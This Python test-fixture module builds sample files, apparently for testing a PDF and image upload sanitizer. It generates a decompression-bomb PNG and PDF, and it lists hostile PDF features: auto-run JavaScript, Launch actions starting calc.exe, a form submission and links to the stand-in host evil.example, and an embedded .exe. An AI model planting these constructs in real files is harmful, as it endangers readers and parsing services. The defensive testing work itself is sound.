"""Files as people and attackers give them, made anew for each test."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **options: Any) -> bytes:
    """A PDF with blank pages, after `change` was done to it."""
    out = BytesIO()
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        if change:
            change(document)
        document.save(out, **options)
    return out.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: Any) -> bytes:
    """A picture of one colour."""
    out = BytesIO()
    Image.new(mode, size).save(out, kind, **options)
    return out.getvalue()


def zipped() -> bytes:
    """A ZIP."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "a")
    return out.getvalue()


def huge_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A small file that says it is a picture of 3,600 million points."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b""))
    )


def bomb_pdf(megabytes: int) -> bytes:
    """A small PDF whose list of objects is packed, and would fill so many megabytes."""
    packer = zlib.compressobj(9)
    packed = (
        packer.compress(b"5 0 <</A 1>>") + b"".join(packer.compress(b" " * 1_000_000) for _ in range(megabytes)) + packer.flush()
    )
    parts = [b"%PDF-1.5\n"]
    places = []

    def add(body: bytes) -> None:
        places.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n" % len(places) + body + b"\nendobj\n")

    add(b"<</Type/Catalog/Pages 2 0 R>>")
    add(b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    add(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>")
    add(b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream")
    rows = b"\0\0\0\0\0\0\xff" + b"".join(struct.pack(">BIH", 1, place, 0) for place in places)
    rows += struct.pack(">BIH", 2, 4, 0) + struct.pack(">BIH", 1, sum(map(len, parts)), 0)
    begins = sum(map(len, parts))
    parts.append(
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(rows) + rows + b"\nendstream\nendobj\n"
    )
    parts.append(b"startxref\n%d\n%%%%EOF\n" % begins)
    return b"".join(parts)


def _root(key: str, value: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda document: document.Root.__setitem__(Name(key), value)


def _on_page(key: str, value: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda document: document.pages[0].obj.__setitem__(Name(key), value)


def _annotation(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    """A rectangle on the page with these entries."""

    def change(document: pikepdf.Pdf) -> None:
        made = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
        document.pages[0].obj.Annots = Array([document.make_indirect(made)])

    return change


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def _unreachable(document: pikepdf.Pdf) -> None:
    """A script that hangs deep in what the page draws with."""
    made = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=Array([Dictionary(Deep=made)])))


SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
HARMFUL: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "script on opening": _root("/OpenAction", SCRIPT),
    "program on opening": _root("/OpenAction", Dictionary(S=Name.Launch, F=String("calc.exe"))),
    "address on opening": _root("/OpenAction", Dictionary(S=Name.URI, URI=String("http://evil.example"))),
    "printing on opening": _root("/OpenAction", Dictionary(S=Name.Named, N=Name.Print)),
    "script among the names": _root("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))),
    "events of the document": _root("/AA", Dictionary(WC=Dictionary(S=Name.GoTo))),
    "events of a page": _on_page("/AA", Dictionary(O=Dictionary(S=Name.URI, URI=String("http://evil.example")))),
    "script behind a link": _annotation(Subtype=Name.Link, A=SCRIPT),
    "program behind a link": _annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe"))),
    "form that is sent": _annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))),
    "second action": _annotation(
        Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Name.a, Next=Array([Dictionary(S=Name.Launch, F=String("a"))]))
    ),
    "file at a place": _annotation(Subtype=Name.FileAttachment),
    "film": _annotation(Subtype=Name.RichMedia),
    "file inside": _attached,
    "XFA": _root("/AcroForm", Dictionary(Fields=Array([]), XFA=Array([]))),
    "script deep inside": _unreachable,
}
"""What a PDF may hold that is not kept."""
HARMLESS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "where it opens": lambda document: document.Root.__setitem__(
        Name.OpenAction, Array([document.pages[0].obj, Name.XYZ, 0, 800, 0])
    ),
    "page where it opens": _root("/OpenAction", Dictionary(S=Name.GoTo, D=Name.a)),
    "link to the web": _annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.eu"))),
    "fields of a form": _root("/AcroForm", Dictionary(Fields=Array([]))),
    "no events": _root("/AA", Dictionary()),
}
"""What many programs write, and nobody need fear."""
